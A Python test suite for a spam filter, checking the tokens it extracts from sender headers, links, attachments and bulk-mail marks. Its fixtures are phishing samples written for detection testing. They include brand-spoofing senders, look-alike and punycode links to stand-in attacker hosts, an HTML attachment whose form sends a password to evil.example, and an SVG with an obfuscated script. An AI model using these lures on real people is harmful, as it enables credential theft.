"""Mail-evidence token families (who claims to send, where links go, what is attached, bulk marks): exact tokens, totality."""

from __future__ import annotations

import base64
import io
import json
import zipfile

from hypothesis import given, settings
from hypothesis import strategies as st

from spamd.config import Config, ModelConfig, ParserConfig
from spamd.learning.classifier import Classifier
from spamd.mail.attachments import attachment_tokens, zip_tokens
from spamd.mail.bulk import bulk_tokens
from spamd.mail.domains import looks_alike, registrable_domain, skeleton
from spamd.mail.links import link_tokens, split_url
from spamd.mail.message import ParsedMessage, parse_message
from spamd.mail.senders_claimed import claimed_sender_tokens, split_address
from spamd.mail.tokenize import EVIDENCE_FAMILIES, evidence_tokens
from spamd.model.families import (
    CLAIM,
    UNRECORDED_COUNT_SETTINGS,
    count_settings,
    evidence_families,
    evidence_kind,
    with_families,
)
from tests.cli_helpers import run_spamctl, train_examples

LIMITS = ParserConfig()
ALL_EVIDENCE = ModelConfig(sender_claims=True, link_targets=True, attachment_kinds=True, bulk_marks=True)


def parsed(raw: bytes) -> ParsedMessage:
    return parse_message(raw, LIMITS)


def html_mail(body: str, sender: str = "Shop <news@shop.example.com>") -> ParsedMessage:
    return parsed(
        f"From: {sender}\nSubject: hi\nContent-Type: text/html\n\n<html><body>{body}</body></html>\n".encode()
    )


# ---------------------------------------------------------------- domains


def test_registrable_domains_follow_the_public_suffix_list():
    assert registrable_domain("mktg.torrid.com") == "torrid.com"
    assert registrable_domain("a.b.co.uk") == "b.co.uk"
    assert registrable_domain("foo.github.io") == "foo.github.io"  # a suffix anyone can register under
    assert registrable_domain("192.0.2.7") == "192.0.2.7"  # an IP is itself, not "2.7"
    assert registrable_domain("com") == "com"


def test_look_alike_names():
    assert skeleton("paypa1") == "paypal" and skeleton("p\u0430ypal") == "paypal"
    assert looks_alike("paypa1", "paypal") and looks_alike("amazom", "amazon") and looks_alike("walmart", "wallmart")
    assert not looks_alike("paypal", "paypal") and not looks_alike("ebay", "ebey")  # the same, and too short


# ---------------------------------------------------------------- who claims to send it


def test_a_brand_display_name_on_a_foreign_domain():
    msg = parsed(
        b"From: Walmart Notices Center <walmartnoticescenter@sinhil.com>\n"
        b"Return-Path: <bounce@mail.sinhil.com>\nReply-To: claims@gmail.com\nSubject: hi\n\nx\n"
    )
    assert claimed_sender_tokens(msg) == [
        "from-org:sinhil.com",
        "from-suffix:com",
        "from-name-not-in-domain:walmart",
        "from-name-not-in-domain:notices",
        "from-name-not-in-domain:center",
        "from-name-domain:nomatch",
        "reply-to-org:gmail.com",
        "reply-to:other-org",
        "return-path-org:sinhil.com",
        "return-path:same-org",
        "reply-to:freemail-from-other",
    ]


def test_the_brands_own_domain():
    msg = parsed(
        b"From: Torrid Semi Annual Sale <info@mktg.torrid.com>\nDKIM-Signature: v=1; a=rsa-sha256; d=torrid.com; s=k1\n\nx\n"
    )
    assert claimed_sender_tokens(msg) == [
        "from-org:torrid.com",
        "from-suffix:com",
        "from-name-in-domain:torrid",
        "from-name-not-in-domain:semi",
        "from-name-not-in-domain:annual",
        "from-name-not-in-domain:sale",
        "from-name-domain:match",
        "claimed:dkim-org:torrid.com",
        "claimed:dkim:same-org",
    ]


def test_a_name_that_spells_out_the_domain_matches_it_word_by_word():
    tokens = claimed_sender_tokens(parsed(b"From: Bank of America <alerts@bankofamerica.com>\n\nx\n"))
    assert tokens == ["from-org:bankofamerica.com", "from-suffix:com", "from-name-in-domain:bank", "from-name-in-domain:america",
                      "from-name-domain:match"]  # fmt: skip


def test_the_suffix_a_sender_registered_under_is_a_claim_of_its_own():
    # A throwaway domain is new to every site; where such domains are registered is not.
    assert "from-suffix:shop" in claimed_sender_tokens(
        parsed(b'From: "simple hack" <simple_hack@cellucaare.shop>\n\nx\n')
    )
    assert "from-suffix:com.br" in claimed_sender_tokens(parsed(b"From: <vss@mail.suspicious.com.br>\n\nx\n"))
    for bare in (b"From: <root@[192.0.2.7]>\n\nx\n", b"From: <root@localhost>\n\nx\n", b"Subject: no from\n\nx\n"):
        assert not [t for t in claimed_sender_tokens(parsed(bare)) if t.startswith("from-suffix:")]
    # Written in a From, it is what the message says: toward spam only when scored apart.
    assert evidence_kind("from-suffix:shop") == CLAIM


def test_an_address_in_the_display_name_that_is_not_the_real_one():
    tokens = claimed_sender_tokens(parsed(b'From: "service@paypal.com" <x@login.evil-site.ru>\n\nx\n'))
    assert "from-name-claims:paypal.com" in tokens and "from-name-address:other" in tokens
    same = claimed_sender_tokens(parsed(b'From: "news@paypal.com" <news@paypal.com>\n\nx\n'))
    assert "from-name-address:same" in same


def test_free_mail_senders_with_a_company_name_or_a_persons():
    company = claimed_sender_tokens(parsed(b"From: USPS Delivery Support <usps.track@gmail.com>\n\nx\n"))
    person = claimed_sender_tokens(parsed(b"From: Jane Miller <jane.miller@gmail.com>\n\nx\n"))
    assert "from-freemail:organisation-name" in company and "from-freemail:person-name" in person


def test_addresses_without_a_display_name():
    assert split_address("bare@host.example") == ("", "host.example")
    assert split_address("a@b.example (Alice)") == ("Alice", "b.example")
    assert claimed_sender_tokens(parsed(b"Subject: no from\n\nx\n")) == [
        "from-org:none",
        "from-name:none",
    ]


# ---------------------------------------------------------------- where the links go


def test_link_text_naming_another_domain_than_its_target():
    msg = html_mail(
        '<a href="https://login.evil-site.com/x">www.paypal.com</a> <a href="https://shop.example.com/a">shop.example.com</a>'
    )
    tokens = link_tokens(msg)
    assert "link-text:other-domain" in tokens and "link-text-names:paypal.com" in tokens
    assert "link-text:same-domain" in tokens
    assert "link-org:evil-site.com" in tokens and "link-org:example.com" in tokens
    assert "link-domains:2" in tokens and "link-org:has-sender" in tokens


def test_punycode_shortener_ip_redirector_userinfo_and_look_alike_links():
    msg = html_mail(
        '<a href="https://xn--pypal-4ve.com/signin">sign in</a>'
        '<a href="https://bit.ly/3xYz">track</a>'
        '<a href="http://192.0.2.7/login">verify</a>'
        '<a href="https://www.google.com/url?q=https://evil.example.net/">open</a>'
        '<a href="https://paypal.com@attacker.example.org/">account</a>'
        '<a href="https://paypa1.com/">help</a>',
        sender="PayPal <service@paypal.com>",
    )
    tokens = link_tokens(msg)
    for expected in ("link:punycode", "link:punycode-latin-lookalike", "link:shortener", "link:ip-host",
                     "link:redirect-other-org", "link:userinfo", "link:lookalike-sender", "link-domains:5-8"):  # fmt: skip
        assert expected in tokens, expected
    assert "link-org:attacker.example.org" not in tokens and "link-org:example.org" in tokens


def test_a_tracking_pixel_and_urls_in_plain_text():
    msg = html_mail('<p>hi</p><img src="https://t.shop.example.com/o.gif" width="1" height="1" alt="">')
    assert "link:tracking-pixel" in link_tokens(msg)
    plain = parsed(b"From: a@b.example\n\nsee https://docs.example.org/page and www.other.example.net\n")
    assert link_tokens(plain)[:3] == [
        "link-org:example.net",
        "link-org:example.org",
        "link-domains:2",
    ]
    assert link_tokens(parsed(b"From: a@b.example\n\nno links\n")) == ["link-domains:0"]


def test_split_url():
    assert split_url("https://user@host.example:8443/p?q") == (
        "host.example",
        "/p?q",
        True,
    )
    assert split_url("www.example.com") == ("www.example.com", "", False)


# ---------------------------------------------------------------- what is attached


def attached(name: str, ctype: str, data: bytes) -> bytes:
    encoded = base64.encodebytes(data).decode()
    return (
        'From: a@b.example\nContent-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain\n\nsee attached\n'
        f'--b\nContent-Type: {ctype}; name="{name}"\nContent-Disposition: attachment; filename="{name}"\n'
        f"Content-Transfer-Encoding: base64\n\n{encoded}--b--\n"
    ).encode()


def encrypted_zip(inner: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(inner, b"MZ" * 50)
    data = bytearray(buffer.getvalue())
    data[6] |= 1  # the local header's "encrypted" flag, as a password-protected zip sets it
    return bytes(data)


def test_an_html_attachment_with_a_login_form():
    page = b'<html><form action="https://evil.example/p"><input type="password" name="pw"></form></html>'
    assert attachment_tokens(parsed(attached("Invoice.pdf.html", "text/html", page))) == [
        "attach-count:1",
        "attach-kind:html",
        "attach:double-extension",
        "attach-html:form",
        "attach-html:password",
    ]


def test_an_encrypted_archive_and_what_it_holds():
    tokens = attachment_tokens(parsed(attached("docs.zip", "application/zip", encrypted_zip("scan.exe"))))
    assert tokens == [
        "attach-count:1",
        "attach-kind:archive",
        "attach:encrypted-archive",
        "attach-archive-holds:executable",
    ]


def test_pdf_disk_image_svg_and_names_that_lie():
    assert attachment_tokens(parsed(attached("bill.pdf", "application/pdf", b"%PDF-1.7 ..."))) == [
        "attach-count:1", "attach-kind:pdf"]  # fmt: skip
    assert "attach:content-mismatch" in attachment_tokens(parsed(attached("bill.pdf", "application/pdf", b"<html>")))
    assert "attach-kind:disk-image" in attachment_tokens(
        parsed(attached("order.iso", "application/octet-stream", b"\0" * 64))
    )
    svg = attachment_tokens(
        parsed(
            attached(
                "fax.svg",
                "image/svg+xml",
                b"<svg><script>eval(atob('aGk='))</script></svg>",
            )
        )
    )
    assert "attach-svg:script" in svg and "attach-svg:obfuscated-script" in svg
    assert attachment_tokens(parsed(b"From: a@b.example\n\nno attachment\n")) == []


# ---------------------------------------------------------------- bulk marks


def test_one_click_unsubscribe_feedback_id_and_a_providers_marks():
    msg = parsed(
        b"From: Torrid <info@mktg.torrid.com>\n"
        b"List-Unsubscribe: <https://click.torrid.com/u?x=1>, <mailto:unsub@mktg.torrid.com>\n"
        b"List-Unsubscribe-Post: List-Unsubscribe=One-Click\n"
        b"Feedback-ID: 7:123:torrid:sfmc\nX-SFMC-Stack: 11\nPrecedence: bulk\n\nsale\n"
    )
    assert bulk_tokens(msg) == [
        "bulk:unsubscribe-mailto+web",
        "bulk:one-click",
        "bulk:unsubscribe-same-org",
        "bulk:feedback-id",
        "bulk:feedback-id-fields:4",
        "bulk:feedback-id-sender:sfmc",
        "bulk:esp:salesforce",
        "bulk:precedence:bulk",
    ]
    assert bulk_tokens(parsed(b"From: a@b.example\n\nx\n")) == ["bulk:no-unsubscribe"]
    plain_post = parsed(
        b"From: a@b.example\nList-Unsubscribe: <mailto:u@b.example>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\n\nx\n"
    )
    assert bulk_tokens(plain_post) == [
        "bulk:unsubscribe-mailto",
        "bulk:one-click-without-https",
    ]


# ---------------------------------------------------------------- families in [model]


def test_sender_claims_alone_is_on_by_default_and_each_family_adds_its_tokens_when_switched_on():
    raw = b"From: Walmart <w@sinhil.com>\nSubject: hi\n\nsee https://bit.ly/x\n"
    assert evidence_families(ModelConfig()) == ("sender_claims",)
    off = ModelConfig(sender_claims=False)
    plain = Classifier(Config(model=off), None).tokens(raw)  # type: ignore[arg-type]
    switched = Classifier(Config(model=ALL_EVIDENCE), None).tokens(raw)  # type: ignore[arg-type]
    assert not [t for t in plain if t.startswith(("from-org:", "link:", "bulk:"))]
    assert switched[: len(plain)] == plain
    assert switched[len(plain) :] == evidence_tokens(parsed(raw), EVIDENCE_FAMILIES)
    assert "from-name-not-in-domain:walmart" in switched and "link:shortener" in switched
    tokens, weights = with_families(["w"], parsed(raw), ModelConfig(link_targets=True))
    assert weights is None and tokens[0] == "w" and "link:shortener" in tokens


def test_the_switched_families_are_part_of_what_the_counts_mean():
    off = ModelConfig(**dict.fromkeys(EVIDENCE_FAMILIES, False))  # type: ignore[arg-type]
    assert count_settings(off) == UNRECORDED_COUNT_SETTINGS  # a model stored before them reads as built without
    assert count_settings(ModelConfig(bulk_marks=True, sender_claims=True))["evidence"] == "sender_claims,bulk_marks"
    assert evidence_families(ALL_EVIDENCE) == tuple(EVIDENCE_FAMILIES)


def test_spamctl_explain_names_the_evidence_tokens(tmp_path):
    data, config = tmp_path / "data", tmp_path / "spamd.toml"
    config.write_text("[model]\nhash_bits = 16\nsender_claims = true\nlink_targets = true\nbulk_marks = true\n")
    train_examples(tmp_path, config, data)
    probe = b"From: Lottery Office <winner@lottery.example>\nSubject: prize\n\nclaim at https://bit.ly/x\n"
    done = run_spamctl(
        "--config",
        config,
        "--data-dir",
        data,
        "explain",
        "-",
        "--json",
        "--limit",
        "1000",
        input=probe,
    )
    assert done.returncode == 0, done.stderr
    rows = [r["token"] for side in ("toward_spam", "toward_ham") for r in json.loads(done.stdout)[side]]
    assert "from-org:lottery.example" in rows and "bulk:no-unsubscribe" in rows


# ---------------------------------------------------------------- totality


header_text = st.text(
    alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\r\n"),
    max_size=300,
)
url_text = st.text(alphabet="htps:/w.xn-@?=&%3a2f[]<>\"' 0123456789abcé\u0430", max_size=200)


@settings(max_examples=300, deadline=None)
@given(
    from_=header_text,
    reply_to=header_text,
    return_path=header_text,
    dkim=header_text,
    unsubscribe=header_text,
    feedback=header_text,
    urls=st.lists(url_text, max_size=5),
    markup=st.lists(st.text(alphabet='<a href="x.>ims wdth=1</', max_size=200), max_size=3),
)
def test_any_header_and_url_text_gives_bounded_tokens_and_never_raises(
    from_, reply_to, return_path, dkim, unsubscribe, feedback, urls, markup
):
    headers = [("from", from_), ("reply-to", reply_to), ("return-path", return_path), ("dkim-signature", dkim),
               ("list-unsubscribe", unsubscribe), ("list-unsubscribe-post", unsubscribe), ("feedback-id", feedback),
               ("list-id", reply_to)]  # fmt: skip
    msg = ParsedMessage(
        headers=headers,
        texts=[" ".join(urls)],
        urls=urls,
        html=markup,
        first=dict(headers),
    )
    tokens = evidence_tokens(msg, EVIDENCE_FAMILIES)
    assert all(isinstance(t, str) for t in tokens)
    assert len(tokens) <= 60 and max(map(len, tokens), default=0) <= 300


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=2000))
def test_any_bytes_give_evidence_tokens(raw):
    msg = parsed(
        b"From: x@y.example\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: application/zip; name=a.zip\n\n"
        + raw
    )
    assert all(isinstance(t, str) for t in evidence_tokens(msg, EVIDENCE_FAMILIES))


def test_hostile_markup_and_headers_give_bounded_tokens():
    """Inputs that make a careless pattern rescan: each is read once, and the tokens stay few."""
    for markup in ("<a " * 70_000, "<img " * 50_000, '<a href="x">' + "a." * 100_000, "<a href=" + "h" * 200_000):
        tokens = link_tokens(ParsedMessage(html=[markup], texts=[markup], first={"from": "a@b.example"}))
        assert len(tokens) <= 60
    long_name = "a." * 2_000 + " <x@" + "b." * 1_000 + "example>"
    headers = [("from", long_name), ("reply-to", long_name), ("list-unsubscribe", "<" * 4_000)]
    msg = ParsedMessage(headers=headers, first=dict(headers))
    assert len(evidence_tokens(msg, EVIDENCE_FAMILIES)) <= 60


@settings(max_examples=300, deadline=None)
@given(st.lists(st.binary(max_size=60), max_size=6))
def test_any_zip_local_headers_give_tokens(chunks):
    head = b"".join(b"PK\x03\x04" + chunk for chunk in chunks)
    tokens = zip_tokens(head)
    assert len(tokens) <= 20 and all(t.startswith(("attach:", "attach-archive-holds:")) for t in tokens)
